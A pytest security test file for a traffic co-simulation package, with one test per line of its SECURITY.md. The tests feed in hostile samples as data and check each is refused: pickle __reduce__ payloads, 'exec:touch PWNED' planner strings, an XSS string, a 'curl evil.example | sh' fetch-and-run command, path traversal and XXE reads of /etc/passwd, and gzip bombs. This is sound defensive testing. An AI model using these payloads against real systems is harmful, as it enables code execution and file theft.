"""One test for each line of the lists in SECURITY.md, by the name that the line gives."""

import base64
import gzip
import html
import json
import os
import pickle
import re
import shutil
import socket
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from contextlib import closing, suppress
from dataclasses import replace
from http.client import HTTPConnection, HTTPException

import numpy as np
import psutil
import pytest
from places import ROOT, SUPPORT
from scenes import platoon, scene
from trapped_folder import trapped_folder
from writing_scenario import listing, make_scenario

from regents_cosim.cases.content_hash import content_hash
from regents_cosim.cases.files import load_case
from regents_cosim.cases.manifest import find_cases
from regents_cosim.cases.shipped import network_config, shipped
from regents_cosim.cases.suite import load_suite
from regents_cosim.checks.bounded import gunzip_bounded
from regents_cosim.checks.xml_input import read_tree
from regents_cosim.cli import run
from regents_cosim.errors import InputError, LogError, PlannerError, RegentsError, SumoError
from regents_cosim.evaluation.drives.driving import drive_each
from regents_cosim.evaluation.suites.folders import check_suite, write_suite
from regents_cosim.exports.export import export
from regents_cosim.live.adversary import _to_stderr
from regents_cosim.maps.right_of_way import priorities
from regents_cosim.maps.walkways import read_walkways
from regents_cosim.mirror.programs.compile_cache import private_folder
from regents_cosim.planners.aim_bev.weights_file import load_weights
from regents_cosim.planners.find import find_attribute, make_planner
from regents_cosim.reports.page.html import html_page
from regents_cosim.reports.report import report_of
from regents_cosim.runs.identity import identity
from regents_cosim.runs.ledger import DoneUnit, WorkUnit, open_ledger
from regents_cosim.runs.windows import record_once
from regents_cosim.saving import SuiteWriter, save_unlisted
from regents_cosim.scenario.attack_record import AttackRecord
from regents_cosim.simulators.sumo.config import SumoInput
from regents_cosim.simulators.sumo.net import read_road_map
from regents_cosim.sources.logs.files.unpickle import unpickle
from regents_cosim.sources.sumo import record_sumo
from regents_cosim.sources.windows import Windows
from regents_cosim.system import user_code
from regents_cosim.system.workers import executor_for, result_of, submit

pytest_plugins = ["pytester"]

PAGE = ROOT / "SECURITY.md"
RUN = "open('PWNED', 'w').close()\n"


@pytest.fixture
def suite(tmp_path, monkeypatch):
    """A suite whose case names a command as its planner; the folder that we work in must stay as it is."""
    monkeypatch.chdir(tmp_path)
    made = platoon()
    record = AttackRecord(made.id, "regents", "exec:touch PWNED", "no_collision", 1)
    SuiteWriter(tmp_path / "suite", 0).add(replace(made, attack=record, log=made.tracks))
    yield tmp_path / "suite"
    assert not (tmp_path / "PWNED").exists()


def test_each_line_of_the_page_has_its_test():
    items = re.findall(r"^- .*(?:\n  .*)*", PAGE.read_text(), re.MULTILINE)
    named = [re.findall(r"\(`(test_\w+)`\)", item) for item in items]
    assert all(len(tests) == 1 for tests in named)
    mine = {name for name in globals() if name.startswith("test_")} - {"test_each_line_of_the_page_has_its_test"}
    assert sorted(test for tests in named for test in tests) == sorted(mine)


# --- what you name ----------------------------------------------------------------------------


def test_a_planner_that_is_named_runs_with_your_rights(tmp_path, monkeypatch):
    monkeypatch.setattr("sys.path", [*user_code.sys.path])
    (tmp_path / "mine.py").write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\nclass P:\n"
                                      "    reset = act = lambda self, given: None\n")  # fmt: skip
    make_planner(f"{tmp_path}/mine.py:P")
    assert (tmp_path / "ran").exists()


def test_the_zip_of_a_policy_that_is_named_runs_with_your_rights(tmp_path):
    class Runs:
        def __reduce__(self):
            return os.mkdir, (str(tmp_path / "ran"),)

    (tmp_path / "run.json").write_text("{}")
    (tmp_path / "run.cleanrl_model").write_bytes(pickle.dumps(Runs()))
    code = {"__module__": "stable_baselines3.dqn.policies", ":type:": "type"}
    code |= {":serialized:": base64.b64encode(pickle.dumps(Runs())).decode()}
    with zipfile.ZipFile(tmp_path / "run.zip", "w") as archive:
        archive.writestr("data", json.dumps({"policy_class": code}))
    with pytest.raises(RegentsError):
        make_planner(f"highway:{tmp_path}/run.cleanrl_model")
    assert not (tmp_path / "ran").exists()
    pytest.importorskip("stable_baselines3", reason="needs the extra sb3")
    with pytest.raises(RegentsError):
        make_planner(f"highway:{tmp_path}/run.zip")
    assert (tmp_path / "ran").exists()


def test_what_a_planner_answers_is_data(tmp_path, monkeypatch):
    monkeypatch.setenv("REGENTS_BOMB", str(tmp_path / "PWNED"))
    made = scene((0, 0, 10), (20, 0, 8), steps=6)
    for name in ("Pickles", "PicklesInFrame"):
        (drive,) = drive_each([made], f"{SUPPORT / 'hostile_planners.py'}:{name}")
        assert "broke the protocol in `act` at step 1" in drive.error
    assert not (tmp_path / "PWNED").exists()


def test_no_module_of_a_suite_is_imported(suite, monkeypatch):
    (suite / "evil.py").write_text(RUN)
    monkeypatch.chdir(suite)
    with pytest.raises(PlannerError, match="lies in the suite"):
        make_planner("evil:P")
    assert not (suite / "PWNED").exists()


def test_an_entry_point_does_not_replace_a_planner_of_ours(monkeypatch):
    class Theirs:
        name, value = "idm", "evil:P"

    monkeypatch.setattr(user_code, "entry_points", lambda group: [Theirs])
    assert find_attribute("idm").__module__ == "regents_cosim.planners.idm"


def test_a_cache_that_others_can_write_to_is_refused(tmp_path):
    (tmp_path / "cache").mkdir()
    (tmp_path / "cache").chmod(0o777)
    with pytest.raises(RegentsError, match="cache"):
        private_folder(tmp_path / "cache")


@pytest.mark.slow
def test_no_process_of_ours_looks_for_modules_in_the_working_directory(tmp_path):
    (tmp_path / "script.py").write_text(
        "from regents_cosim.system.workers import run_isolated\nassert run_isolated(abs, -1) == 1\n"
    )
    with trapped_folder(tmp_path / "trap") as trap:
        subprocess.run([sys.executable, tmp_path / "script.py"], cwd=trap, check=True)


def greeting(port, context=None):
    """What a server of Dask says first: its versions to those that it lets in, nothing to others."""
    with (
        suppress(OSError),
        socket.create_connection(("127.0.0.1", port), timeout=0.5) as line,
        context.wrap_socket(line) if context else line as talk,
    ):
        return talk.recv(100)
    return b""


def listening(processes):
    found = [c.laddr for p in processes for c in p.net_connections("tcp") if c.status == psutil.CONN_LISTEN]
    assert {address.ip for address in found} <= {"127.0.0.1"}
    return {address.port for address in found}


@pytest.mark.slow
def test_who_has_not_the_key_of_the_run_is_not_let_in_by_dask():
    distributed = pytest.importorskip("distributed")
    me = psutil.Process()
    known, listened = set(me.children(recursive=True)), listening([me])
    with executor_for("dask") as executor:
        assert result_of(submit(executor, abs, -1)) == 1
        ports = listening({me, *me.children(recursive=True)} - known) - listened

        def let_in(security):
            context = security.get_connection_args("client").get("ssl_context")
            return {port for port in ports if greeting(port, context)}

        assert len(let_in(executor._client.security)) >= 2  # the scheduler and the workers
        assert not let_in(distributed.Security.temporary())
        assert not {port for port in ports if greeting(port)}
        for port in ports:
            asked = HTTPConnection("127.0.0.1", port, timeout=0.5)
            with suppress(OSError, HTTPException), closing(asked):
                asked.request("GET", "/info/main/workers.html")
                assert asked.getresponse().status == 404
        assert result_of(submit(executor, abs, -2)) == 2


# --- suites -----------------------------------------------------------------------------------


def test_what_a_case_names_is_not_run(suite, capsys):
    assert run(["replay", str(suite), "--ego", "planner", "--in", "mirror"]) == 2
    assert "--planner" in capsys.readouterr().err


@pytest.mark.parametrize(
    "text",
    ['planner = "exec:touch ran"', 'policy = "x.py:P"', 'output = "x"', 'into = "x"'],
)
def test_a_file_of_settings_names_no_code(text, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.toml").write_text(text)
    assert run(["attack", "shipped:quickstart", "-o", "out", "--config", "a.toml"]) == 2
    assert "on the command line" in capsys.readouterr().err
    assert [path.name for path in tmp_path.iterdir()] == ["a.toml"]


def test_a_report_carries_nothing_of_a_case_that_runs(suite):
    case = load_suite(suite)[0]
    harm = "<script>hurt()<|script><img src=x onerror=hurt()>"
    case = replace(case, id=harm, provenance=replace(case.provenance, command="curl evil.example | sh"))
    page = html_page(report_of([case], {}, suite))
    assert harm not in page
    assert "<img" not in page
    assert not re.search(r"(?:src|href)=[\"']?(?:https?:|//)", page)
    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]*)"', page)
    assert html.unescape(policy).startswith("default-src 'none'")


def test_nothing_of_a_case_is_unpickled(suite):
    class Harm:
        def __reduce__(self):
            return open, ("PWNED", "w")

    np.savez(suite / "platoon0" / "tracks.npz", x=np.array([Harm()], object), allow_pickle=True)
    with pytest.raises(RegentsError):
        load_suite(suite)


def test_pytest_does_not_run_code_of_a_suite(suite, pytester):
    for name in ("test_it.py", "platoon0/test_it.py", "platoon0/conftest.py"):
        (suite / name).write_text(RUN)
    words = (f"--regents-suite={suite}", "--regents-planner=idm", "--collect-only", "--rootdir=.")
    pytester.runpytest_subprocess(suite.parent, *words).stdout.fnmatch_lines(["*1 test collected*"])
    (suite / "conftest.py").write_text(RUN)
    pytester.runpytest_subprocess(*words).stderr.fnmatch_lines(["*holds conftest.py*"])
    assert not list(pytester.path.rglob("PWNED"))
    assert "conftest.py" in [row.case for row in check_suite(suite) if row.problem]


@pytest.mark.slow
def test_pytest_runs_nothing_beside_a_suite(suite, pytester):
    (pytester.path / "archive").mkdir()
    suite = suite.rename(pytester.path / "archive" / "suite")
    (pytester.path / "archive" / "conftest.py").write_text(RUN)
    (pytester.path / "mine.py").write_text("def test_mine(): pass")
    words = (f"--regents-suite={suite}", "--regents-planner=idm", "--collect-only")
    pytester.runpytest_subprocess(*words).stdout.fnmatch_lines(["*1 test collected*"])
    done = pytester.runpytest_subprocess(*words, f"{suite}/suite.json::platoon0")
    done.stderr.fnmatch_lines(["*archive/conftest.py lies beside a suite, and pytest would run it*"])
    pytester.runpytest_subprocess(*words, "mine.py").stdout.fnmatch_lines(["*2 tests collected*"])
    assert not list(pytester.path.rglob("PWNED"))


def test_a_name_does_not_lead_out_of_its_folder(suite):
    header = suite / "platoon0" / "scenario.json"
    for place, harm in (("id", "../precious"), ("map", {"road": "/etc/passwd", "sumo_net": None})):
        text = header.read_text()
        header.write_text(json.dumps(json.loads(text) | {place: harm}))
        with pytest.raises(RegentsError, match="expected the plain name of a file or folder"):
            load_case(suite / "platoon0")
        header.write_text(text)


def test_a_link_out_of_a_suite_is_not_read(suite, tmp_path):
    (suite / "platoon0" / "tracks.npz").rename(tmp_path / "tracks.npz")
    (suite / "platoon0" / "tracks.npz").symlink_to(tmp_path / "tracks.npz")
    with pytest.raises(RegentsError, match="leads out of"):
        load_suite(suite)


def recorded_into(suite):
    """A run in the folder of a suite, which notes a unit of work."""
    record_once(suite, identity("record", {"of": "this test"}, {}), "traffic", 0, lambda: [platoon()])


@pytest.mark.parametrize("name", [".run", "maps", "platoon0"])
def test_links_are_looked_for_when_something_is_written(suite, tmp_path, name):
    recorded_into(suite)
    shutil.move(suite / name, tmp_path / "precious")
    (suite / name).symlink_to(tmp_path / "precious")
    write = recorded_into if name == ".run" else lambda suite: SuiteWriter(suite, 0).add(platoon())
    with pytest.raises(RegentsError, match="is a link, never followed for writing"):
        write(suite)


def test_a_second_name_is_not_written_to(suite, tmp_path):
    mine = identity("record", {"of": "this test"}, {})
    for name in (".lock", ".run/.lock", ".run/ledger.jsonl"):
        recorded_into(suite)
        (tmp_path / "precious").write_bytes((suite / ".run" / "ledger.jsonl").read_bytes())
        (suite / name).unlink(missing_ok=True)
        os.link(tmp_path / "precious", suite / name)
        before = (tmp_path / "precious").read_bytes()
        SuiteWriter(suite, 0).add(platoon(3, 1))
        with open_ledger(suite, mine) as ledger:
            ledger.plan("", [WorkUnit("more", "key")])
            ledger.note(DoneUnit(WorkUnit("more", "key")))
        assert (tmp_path / "precious").read_bytes() == before
        (tmp_path / "precious").unlink()


def test_only_files_of_our_names_are_removed(suite):
    recorded_into(suite)
    (suite / ".run" / "windows" / "mine").mkdir(parents=True)
    (suite / ".run" / "windows" / "mine" / "thesis.txt").write_text("years of work")
    recorded_into(suite)
    assert (suite / ".run" / "windows" / "mine" / "thesis.txt").exists()


@pytest.mark.parametrize("name", ["platoon0", "maps", ".lock", ".run", ".run/windows"])
def test_nothing_is_written_through_a_link(suite, tmp_path, name):
    (tmp_path / "precious" / "folder").mkdir(parents=True)
    for home in (tmp_path / "precious", tmp_path / "precious" / "folder"):
        for file in ("clock.json", "scenario.json", ".x.01234567.tmp"):
            (home / file).write_text("precious")
    before = sorted(path.name for path in (tmp_path / "precious").rglob("*"))
    (suite / name).parent.mkdir(exist_ok=True)
    if (suite / name).exists():
        (suite / name).rename(suite / "moved")
    (suite / name).symlink_to(tmp_path / "precious" / ("new" if name == ".lock" else ""))
    for write in (lambda: SuiteWriter(suite, 0).add(platoon()), lambda: recorded_into(suite)):
        with suppress(RegentsError):
            write()
    assert sorted(path.name for path in (tmp_path / "precious").rglob("*")) == before


def test_only_suites_are_replaced(suite, tmp_path):
    (tmp_path / "thesis").mkdir()
    (tmp_path / "thesis" / "thesis.txt").write_text("years of work")
    with pytest.raises(RegentsError, match="is not a suite"):
        write_suite(tmp_path / "thesis", load_suite(suite), 0)
    assert (tmp_path / "thesis" / "thesis.txt").exists()


def test_only_regular_files_are_read(suite):
    for name in ("tracks.npz", "scenario.json"):
        (suite / "platoon0" / name).unlink()
        os.mkfifo(suite / "platoon0" / name)
        with pytest.raises(RegentsError):
            load_suite(suite)
    os.mkfifo(suite / ".lock")
    with pytest.raises(RegentsError, match="is a named pipe"):
        SuiteWriter(suite, 0).add(platoon())


def test_what_unpacks_to_too_much_is_refused(suite):
    with pytest.raises(InputError):
        gunzip_bounded(gzip.compress(bytes(1 << 22)), 1 << 20)
    (road,) = (suite / "maps").iterdir()
    road.write_bytes(gzip.compress(bytes(1 << 28)))
    with pytest.raises(RegentsError):
        load_suite(suite)


@pytest.mark.parametrize("name", ["a&b\"<'>", "$ego", "]]>", "-->", "\U0001f600", "\u00a0x "])
def test_exports_are_well_formed(tmp_path, name):
    case = scene((0.0, 0.0, 10.0), (30.0, 0.0, 10.0), steps=11)
    named = tuple(replace(agent, id=f"{name}{index}") for index, agent in enumerate(case.agents))
    for to in ("commonroad", "fcd", "csv"):
        for file in export(replace(case, agents=named, id="a&b <c>"), to, tmp_path / to):
            if file.suffix == ".xml":
                ET.parse(file)
    for control in ("a\x1bb", "a\nb", "a\ufffe"):
        with pytest.raises(RegentsError, match="control character"):
            replace(case.agents[0], id=control)


def test_the_terminal_is_told_no_control_characters(tmp_path, capsys):
    assert run(["replay", str(tmp_path / ("\x1b[2J" + "n" * 200)), "--in", "mirror"]) == 2
    said = capsys.readouterr().err
    assert "\\x1b[2J" in said
    assert "\x1b" not in said
    assert run(["evaluate", str(tmp_path), "--planner", "x" * 10_000]) == 2
    said = capsys.readouterr().err
    assert said.count("\n") == 1
    assert len(said) <= 501
    _to_stderr("an id with a \x9b31m in it")
    assert capsys.readouterr().err == "regents_cosim.live: an id with a \\x9b31m in it\n"


@pytest.mark.parametrize(
    "harm",
    [
        '<e1Detector id="d" lane="LANE" pos="1" period="1" file="OUT"/>',
        '<inductionLoop id="d" lane="LANE" pos="1" period="1" file="OUT"/>',
        '<edgeData id="d" file="OUT"/>',
        '<calibrator id="d" lane="LANE" pos="0" output="OUT"/>',
        '<vType id="DEFAULT_VEHTYPE"><param key="has.ssm.device" value="true"/></vType>',
        '<tlLogic id="t" type="actuated" programID="1"><param key="file" value="OUT"/></tlLogic>',
        '<param key="device.ssm.file" value="OUT"/>',
        '<include href="/etc/passwd"/>',
        "&x;",
    ],
)
def test_a_network_holds_roads_and_lights_alone(tmp_path, harm):
    case = load_case(find_cases(shipped("scenarios") / "quickstart")[0])
    assert case.road.sumo_net is not None
    plain = gzip.decompress(case.road.sumo_net).decode()
    (tmp_path / "OUT").write_text("precious")
    harm = harm.replace("LANE", case.road.lanes[0].id).replace("OUT", str(tmp_path / "OUT"))
    text = plain.replace("</net>", f"{harm}</net>")
    if harm == "&x;":
        text = text.replace("<net ", '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]><net ')
    suite = tmp_path / "suite"
    SuiteWriter(suite, 0).add(replace(case, road=replace(case.road, sumo_net=gzip.compress(text.encode()))))
    assert run(["replay", str(suite)]) == 2
    (tmp_path / "harm.net.xml").write_text(text)
    with pytest.raises(RegentsError, match="SUMO network"):
        read_road_map(tmp_path / "harm.net.xml")
    (tmp_path / "plain.net.xml").write_text(plain)
    read_road_map(tmp_path / "plain.net.xml")
    assert (tmp_path / "OUT").read_text() == "precious"


def test_the_hash_finds_changes_and_is_no_signature(suite):
    header = suite / "platoon0" / "scenario.json"
    changed = json.loads(header.read_text()) | {"target": [1.0, 2.0]}
    header.write_text(json.dumps(changed))
    with pytest.raises(RegentsError, match="content hash"):
        load_case(suite / "platoon0")
    (suite / "platoon0" / "scenario.json").write_text(
        json.dumps(changed | {"hash": content_hash(replace(case_of(suite), target=(1.0, 2.0)))})
    )
    assert load_case(suite / "platoon0").target == (1.0, 2.0)


def case_of(suite):
    """The case that the suite of the fixture holds, made again."""
    made = platoon()
    record = AttackRecord(made.id, "regents", "exec:touch PWNED", "no_collision", 1)
    return load_case(save_unlisted(replace(made, attack=record, log=made.tracks), suite.parent / "again"))


@pytest.mark.slow
def test_pytest_is_given_a_suite_with_an_equals_sign(suite, pytester):
    (suite / "pytest.ini").write_text("[pytest]\naddopts = -p no_such_plugin\n")
    done = pytester.runpytest_subprocess(f"--regents-suite={suite}", "--regents-planner=idm")
    done.stderr.fnmatch_lines(["*holds pytest.ini*"])
    done = pytester.runpytest_subprocess("--regents-suite", suite, "--regents-planner=idm")
    done.stderr.fnmatch_lines(["*no_such_plugin*"])
    assert [row.case for row in check_suite(suite) if row.problem] == ["pytest.ini"]
    suite = suite.rename(pytester.mkdir("archive") / "suite")
    (suite / "pytest.ini").unlink()
    (suite.parent / "pytest.ini").write_text("[pytest]\naddopts = --no-such-option\n")
    done = pytester.runpytest_subprocess("--regents-suite", suite, "--regents-planner=idm")
    done.stderr.fnmatch_lines(["*archive/pytest.ini is not one of your files*"])


# --- logs, networks, weights ------------------------------------------------------------------


def test_xml_with_a_document_type_is_refused(tmp_path):
    (tmp_path / "a.xml").write_text('<!DOCTYPE a [<!ENTITY x "xxxxxxxxxx">]><a>&x;</a>')
    with pytest.raises(LogError, match="document type"):
        read_tree(tmp_path / "a.xml", "a log", LogError)
    net = gzip.compress(b'<!DOCTYPE net [<!ENTITY x "xxxxxxxxxx">]><net crossing="&x;"/>')
    with pytest.raises(RegentsError, match="document type"):
        read_walkways(net)
    assert priorities(replace(platoon().road, sumo_net=net)) is None


def test_files_for_sumo_are_bounded_first(tmp_path):
    (tmp_path / "a.xml").write_bytes(gzip.compress(b"<routes>" + b" " * (1 << 25) + b"</routes>"))
    (tmp_path / "b.xml").write_text('<additional><include href="a.xml"/></additional>')
    net = network_config("merge").parent / "merge.net.xml"
    named = f'<net-file value="{net}"/><route-files value="a.xml"/>'
    (tmp_path / "c.sumocfg").write_text(f"<configuration><input>{named}</input></configuration>")
    for given in (
        SumoInput(net=net, routes=(tmp_path / "a.xml",)),
        SumoInput(net=net, additional=(tmp_path / "b.xml",)),
        SumoInput(tmp_path / "c.sumocfg"),
    ):
        with pytest.raises(SumoError, match=r"a\.xml holds more than"):
            record_sumo(given)


def test_a_small_file_cannot_ask_for_much(tmp_path, capsys):
    lights = {str(number): {} for number in range(4000)}
    still = {"position": [{"x": 0, "y": 0}] * 6000, "heading": [0] * 6000, "valid": [1] * 6000}
    content = {"objects": [still | {"length": 4, "width": 2}], "roads": [], "tl_states": lights}
    (tmp_path / "a.json").write_text(json.dumps(content))
    assert run(["record", "--log", str(tmp_path / "a.json"), "-o", str(tmp_path / "suite")]) == 2
    said = capsys.readouterr().err.strip()
    assert "\n" not in said
    assert "lights x instants: 4,000 x 6,000, which makes more than" in said


def test_nothing_is_written_beside_a_scenario(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    config = make_scenario(tmp_path / "there")
    before = listing(tmp_path)
    assert record_sumo(SumoInput(config), Windows(count=1, horizon_s=4.0), tell=lambda line: None)
    assert listing(tmp_path) == before


def test_pickles_of_logs_are_not_run(tmp_path, monkeypatch):
    class Harm:
        def __reduce__(self):
            return open, ("PWNED", "w")

    monkeypatch.chdir(tmp_path)
    with pytest.raises((RegentsError, ValueError)):
        unpickle(pickle.dumps({"scene": Harm()}))
    assert not (tmp_path / "PWNED").exists()


def test_weights_are_numbers(tmp_path):
    (tmp_path / "weights.safetensors").write_bytes(pickle.dumps({"layer": [1.0]}))
    with pytest.raises(RegentsError, match="cannot be read as safetensors"):
        load_weights(tmp_path / "weights.safetensors")


def test_an_object_is_unpickled_where_it_drives_alone():
    class Mine:
        made_in = 0

        def __init__(self):
            self.process = os.getpid()

        def __setstate__(self, state):
            self.__dict__ |= {**state, "made_in": os.getpid()}

        def reset(self, scene):
            raise RuntimeError(f"from {self.process} in {self.made_in}")

        def act(self, observation):
            return None

    (drive,) = drive_each([platoon()], Mine())
    there = re.search(r"from (\d+) in (\d+)", drive.error)
    assert int(there[1]) == os.getpid() != int(there[2])
